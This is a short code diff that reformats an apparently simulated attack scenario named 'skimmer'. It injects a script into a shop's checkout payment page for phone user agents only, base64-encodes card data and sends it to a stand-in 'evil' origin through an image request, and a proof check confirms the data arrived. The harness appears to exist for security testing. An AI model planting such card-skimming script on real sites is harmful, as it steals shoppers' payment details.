@@ -10,9 +10,13 @@ export default skimmer({
   habit: 'on-a-phone',
   cloaked: true,
   install: (site) => {
-    const code = onPay(js`new Image().src = '${site.origins.evil}/sp.gif?d=' + encodeURIComponent(btoa(card()));`);
+    const code = onPay(
+      js`new Image().src = '${site.origins.evil}/sp.gif?d=' + encodeURIComponent(btoa(card()));`,
+    );
     site.alter('shop/checkout/payment', (html, { headers }) =>
-      /Android|iPhone/.test(headers['user-agent'] ?? '') ? html.replace('</body>', () => `<script>${code}</script></body>`) : html,
+      /Android|iPhone/.test(headers['user-agent'] ?? '')
+        ? html.replace('</body>', () => `<script>${code}</script></body>`)
+        : html,
     );
   },
   proof: holds((arrived) => query(arrived, 'd').map(base64)),
